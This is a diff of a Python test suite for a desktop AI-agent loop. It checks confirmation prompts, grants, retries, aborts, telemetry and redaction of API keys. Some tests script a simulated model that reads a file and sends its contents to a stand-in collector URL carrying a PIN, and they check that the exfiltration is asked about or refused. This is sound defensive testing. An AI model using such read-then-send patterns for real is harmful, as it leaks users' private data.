@@ -38,8 +38,11 @@ FINAL = Script(answer="Listo: el fichero está escrito.")
 def write_call(text="hola ñ", path="notas/a.txt", call_id="call_w1"):
     return Script(
         answer="Voy a escribirlo.",
-        tool_calls=(ScriptedCall(name="write_file", arguments={"path": path, "content": text},
-                                 call_id=call_id),),  # fmt: skip
+        tool_calls=(
+            ScriptedCall(
+                name="write_file", arguments={"path": path, "content": text}, call_id=call_id
+            ),
+        ),
         finish="tool_calls",
     )
 
@@ -72,8 +75,12 @@ def test_a_confirmed_call_runs_once_and_its_result_goes_back_to_the_model(harnes
     assert dict(asked.arguments) == {"content": "hola ñ", "path": "notas/a.txt"}
     order = kinds(events)
     assert order[0] == "TurnStart" and order[-1] == "SessionEnd"
-    assert order.index("AssistantMessage") < order.index("ToolExecutionStart") < order.index(
-        "ToolExecutionEnd") < order.index("TurnEnd", order.index("ToolExecutionEnd"))  # fmt: skip
+    assert (
+        order.index("AssistantMessage")
+        < order.index("ToolExecutionStart")
+        < order.index("ToolExecutionEnd")
+        < order.index("TurnEnd", order.index("ToolExecutionEnd"))
+    )
     assert "".join(e.delta for e in events if isinstance(e, TextDelta)).endswith(FINAL.answer)
     follow_up = json.dumps(simulator.requests[before + 1].body, ensure_ascii=False)
     assert "call_w1" in follow_up or wire == "gemini"
@@ -93,10 +100,14 @@ def test_arguments_cut_before_the_terminal_signal_never_run(harness, simulator, 
     assert not any(isinstance(e, AssistantMessage) for e in events)
 
 
-@pytest.mark.parametrize(("wire", "duplicate"), [("openai-chat", (3,)), ("anthropic", (4, 5, 6)),
-                                                 ("openai-responses", (5, 6, 7, 8))])  # fmt: skip
+@pytest.mark.parametrize(
+    ("wire", "duplicate"),
+    [("openai-chat", (3,)), ("anthropic", (4, 5, 6)), ("openai-responses", (5, 6, 7, 8))],
+)
 def test_a_duplicated_tool_call_event_runs_once(harness, simulator, wire, duplicate):
-    model = queue(simulator, Scenario(script=write_call(), duplicate=duplicate), Scenario(script=FINAL))
+    model = queue(
+        simulator, Scenario(script=write_call(), duplicate=duplicate), Scenario(script=FINAL)
+    )
     person = ScriptedPerson([Decision.ALLOW_ONCE, Decision.ALLOW_ONCE])
     result, events = harness.run(harness.loop(wire, model, person), Prompt.single("Escribe"))
     assert result.status == "completed"
@@ -115,8 +126,9 @@ def test_a_retry_after_a_lost_response_does_not_run_twice(harness, simulator):
     pending = pending[:2]  # the user message and the assistant message with the call
     model = queue(simulator, Scenario(script=FINAL))
     person = ScriptedPerson([Decision.ALLOW_ONCE])
-    again, events = harness.run(harness.loop("openai-chat", model, person),
-                                Prompt(messages=tuple(pending)))  # fmt: skip
+    again, events = harness.run(
+        harness.loop("openai-chat", model, person), Prompt(messages=tuple(pending))
+    )
     assert again.status == "completed"
     assert harness.executor.runs == 1  # the recorded result was returned, nothing ran
     (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
@@ -133,9 +145,14 @@ def test_a_retry_after_a_lost_response_does_not_run_twice(harness, simulator):
         ({"content": "x"}, "missing required field 'path'"),
     ],
 )
-def test_an_invalid_call_is_reported_to_the_model_and_never_asked(harness, simulator, arguments, complaint):
-    bad = Script(answer="", finish="tool_calls", tool_calls=(
-        ScriptedCall(name="write_file", arguments=arguments, call_id="call_bad"),))  # fmt: skip
+def test_an_invalid_call_is_reported_to_the_model_and_never_asked(
+    harness, simulator, arguments, complaint
+):
+    bad = Script(
+        answer="",
+        finish="tool_calls",
+        tool_calls=(ScriptedCall(name="write_file", arguments=arguments, call_id="call_bad"),),
+    )
     model = queue(simulator, Scenario(script=bad), Scenario(script=FINAL))
     person = ScriptedPerson([Decision.ALLOW_ONCE])
     before = len(simulator.requests)
@@ -163,12 +180,16 @@ def test_a_grant_skips_the_question_until_it_is_revoked(harness, simulator):
     harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
     assert len(person.asked) == 1
     (grant,) = harness.grants.list()
-    model = queue(simulator, Scenario(script=write_call(text="2", call_id="c2")), Scenario(script=FINAL))
+    model = queue(
+        simulator, Scenario(script=write_call(text="2", call_id="c2")), Scenario(script=FINAL)
+    )
     harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
     assert len(person.asked) == 1  # granted: not asked again
     harness.grants.revoke(grant.id)
     person.answers = [Decision.ALLOW_ONCE]
-    model = queue(simulator, Scenario(script=write_call(text="3", call_id="c3")), Scenario(script=FINAL))
+    model = queue(
+        simulator, Scenario(script=write_call(text="3", call_id="c3")), Scenario(script=FINAL)
+    )
     harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
     assert len(person.asked) == 2  # revoked: asked again
     assert (harness.workspace / "notas/a.txt").read_text(encoding="utf-8") == "3"
@@ -185,7 +206,7 @@ def test_a_listener_that_raises_does_not_stop_the_loop(harness, simulator, caplo
     seen = []
     unsubscribe = loop.on(seen.append)
     unsubscribe()  # unsubscribed listeners hear nothing
-    result, events = harness.run(loop, Prompt.single("x"))
+    result, _events = harness.run(loop, Prompt.single("x"))
     unsubscribe_broken()
     assert result.status == "completed" and harness.executor.runs == 1
     assert seen == []
@@ -195,7 +216,11 @@ def test_a_listener_that_raises_does_not_stop_the_loop(harness, simulator, caplo
 class SlowTool:
     name = "slow_job"
     summary = "Takes its time."
-    schema = {"type": "object", "properties": {"seconds": {"type": "number"}}, "required": ["seconds"]}
+    schema = {
+        "type": "object",
+        "properties": {"seconds": {"type": "number"}},
+        "required": ["seconds"],
+    }
     read_only = False
     started = asyncio.Event
 
@@ -215,8 +240,11 @@ class SlowTool:
 
 def test_abort_mid_tool_leaves_a_clear_recorded_state(harness, simulator):
     harness.registry.add(SlowTool())
-    slow = Script(answer="", finish="tool_calls", tool_calls=(
-        ScriptedCall(name="slow_job", arguments={"seconds": 30}, call_id="call_slow"),))  # fmt: skip
+    slow = Script(
+        answer="",
+        finish="tool_calls",
+        tool_calls=(ScriptedCall(name="slow_job", arguments={"seconds": 30}, call_id="call_slow"),),
+    )
     model = queue(simulator, Scenario(script=slow), Scenario(script=FINAL))
     loop = harness.loop("openai-chat", model, ScriptedPerson([Decision.ALLOW_ONCE]))
     events = []
@@ -235,18 +263,30 @@ def test_abort_mid_tool_leaves_a_clear_recorded_state(harness, simulator):
 
 
 def test_the_loop_stops_after_max_turns(harness, simulator):
-    model = queue(simulator, Scenario(script=Script(answer="", finish="tool_calls", tool_calls=(
-        ScriptedCall(name="list_directory", arguments={"path": "."}),))))  # fmt: skip
+    model = queue(
+        simulator,
+        Scenario(
+            script=Script(
+                answer="",
+                finish="tool_calls",
+                tool_calls=(ScriptedCall(name="list_directory", arguments={"path": "."}),),
+            )
+        ),
+    )
     result, events = harness.run(
-        harness.loop("openai-chat", model, ScriptedPerson(), max_turns=3), Prompt.single("x"))
+        harness.loop("openai-chat", model, ScriptedPerson(), max_turns=3), Prompt.single("x")
+    )
     assert (result.status, result.reason) == ("error", "max_turns")
     assert sum(isinstance(e, TurnEnd) for e in events) == 3
 
 
 def test_read_only_tools_may_run_without_asking(harness, simulator):
     (harness.workspace / "hola.txt").write_text("contenido", encoding="utf-8")
-    reader = Script(answer="", finish="tool_calls", tool_calls=(
-        ScriptedCall(name="read_file", arguments={"path": "hola.txt"}),))  # fmt: skip
+    reader = Script(
+        answer="",
+        finish="tool_calls",
+        tool_calls=(ScriptedCall(name="read_file", arguments={"path": "hola.txt"}),),
+    )
     model = queue(simulator, Scenario(script=reader), Scenario(script=FINAL))
     person = ScriptedPerson()
     loop = harness.loop("openai-chat", model, person, allow_read_only_without_asking=True)
@@ -258,13 +298,19 @@ def test_read_only_tools_may_run_without_asking(harness, simulator):
 
 def test_telemetry_is_kept_apart_from_content_and_holds_no_key(harness, simulator):
     model = queue(simulator, Scenario(script=write_call()), Scenario(script=FINAL))
-    result, events = harness.run(harness.loop("openai-responses", model,
-                                              ScriptedPerson([Decision.ALLOW_ONCE])),
-                                 Prompt.single("x"))  # fmt: skip
+    _result, events = harness.run(
+        harness.loop("openai-responses", model, ScriptedPerson([Decision.ALLOW_ONCE])),
+        Prompt.single("x"),
+    )
     generation_id = next(e for e in events if isinstance(e, TurnStart)).generation_id
     telemetry = harness.generations.telemetry(generation_id)
-    for field in ("time_to_first_fragment", "time_to_terminal", "time_to_validation",
-                  "time_to_confirmation", "time_to_execution"):  # fmt: skip
+    for field in (
+        "time_to_first_fragment",
+        "time_to_terminal",
+        "time_to_validation",
+        "time_to_confirmation",
+        "time_to_execution",
+    ):
         assert telemetry[field] >= 0, field
     assert telemetry["ending"] == "completed" and telemetry["stop_reason"] == "tool_calls"
     record = harness.generations.get(generation_id)
@@ -283,12 +329,13 @@ def test_telemetry_is_kept_apart_from_content_and_holds_no_key(harness, simulato
         (Scenario(script=Script(answer="Primera parte", finish="length")), "incomplete", "length"),
         (Scenario(script=FINAL), "completed", ""),
     ],
-)  # fmt: skip
+)
 def test_the_session_end_says_why_as_a_code(harness, simulator, scenario, reason, code):
     """The window turns the code into words; the provider's own message travels beside it."""
     model = queue(simulator, scenario)
-    result, events = harness.run(harness.loop("openai-chat", model, ScriptedPerson()),
-                                 Prompt.single("x"))  # fmt: skip
+    result, events = harness.run(
+        harness.loop("openai-chat", model, ScriptedPerson()), Prompt.single("x")
+    )
     end = events[-1]
     assert isinstance(end, SessionEnd)
     assert (end.reason, end.code) == (reason, code) and result.code == code
@@ -316,7 +363,7 @@ def test_a_new_loop_asks_before_every_action(harness, simulator):
     reader = Script(answer="", finish="tool_calls", tool_calls=(read,))
     model = queue(simulator, Scenario(script=reader), Scenario(script=FINAL))
     person = ScriptedPerson()  # says no
-    result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
+    _result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
     assert [request.tool_name for request in person.asked] == ["read_file"]
     (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
     assert end.output == DENIED and harness.executor.runs == 0
@@ -337,7 +384,7 @@ def test_reading_a_file_and_sending_it_off_is_put_to_the_person(harness, simulat
     model = queue(simulator, *reads_then_sends(url))
     person = ScriptedPerson()  # says no
     loop = harness.loop("openai-chat", model, person, allow_read_only_without_asking=True)
-    result, events = harness.run(loop, Prompt.single("x"))
+    _result, events = harness.run(loop, Prompt.single("x"))
     # Reading stays on this computer and was allowed without asking; the fetch was asked.
     assert [request.tool_name for request in person.asked] == ["fetch_url"]
     assert person.asked[0].description == f"Fetch {url} (GET)"
@@ -352,7 +399,7 @@ def test_an_allowed_fetch_to_a_local_service_is_still_refused(
     url = f"http://collector.test:{collector.port}/collect?d=PIN%209876"
     model = queue(simulator, *reads_then_sends(url))
     person = ScriptedPerson([Decision.ALLOW_ONCE, Decision.ALLOW_ONCE])
-    result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
+    _result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
     assert [request.tool_name for request in person.asked] == ["read_file", "fetch_url"]
     ends = {e.call_id: e for e in events if isinstance(e, ToolExecutionEnd)}
     assert ends["call_f"].error
@@ -409,6 +456,8 @@ def test_a_tool_failing_without_a_message_is_still_reported_in_words(harness, si
     _, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
     (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
     assert end.error and end.output == "The tool failed: AssertionError"
+
+
 def test_a_tool_result_holding_the_providers_key_is_shown_redacted(harness, simulator):
     from desktop_app.agent.loop import AgentLoop
     from desktop_app.net.transports import ChunkedTransport
@@ -420,12 +469,16 @@ def test_a_tool_result_holding_the_providers_key_is_shown_redacted(harness, simu
     reader = Script(answer="", finish="tool_calls", tool_calls=(call,))
     model = queue(simulator, Scenario(script=reader), Scenario(script=FINAL))
     loop = AgentLoop(
-        endpoint=endpoint_for(simulator, "openai-chat", model, key), transport=ChunkedTransport(),
-        registry=harness.registry, executor=harness.executor,
-        confirmer=ScriptedPerson([Decision.ALLOW_ONCE]), grants=harness.grants,
-        generations=harness.generations, conversation_id=harness.conversation_id,
+        endpoint=endpoint_for(simulator, "openai-chat", model, key),
+        transport=ChunkedTransport(),
+        registry=harness.registry,
+        executor=harness.executor,
+        confirmer=ScriptedPerson([Decision.ALLOW_ONCE]),
+        grants=harness.grants,
+        generations=harness.generations,
+        conversation_id=harness.conversation_id,
     )
     harness._transports.append(loop.transport)
-    result, events = harness.run(loop, Prompt.single("x"))
+    _result, events = harness.run(loop, Prompt.single("x"))
     (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
     assert "API_KEY=[redacted]" in end.output and key not in end.output
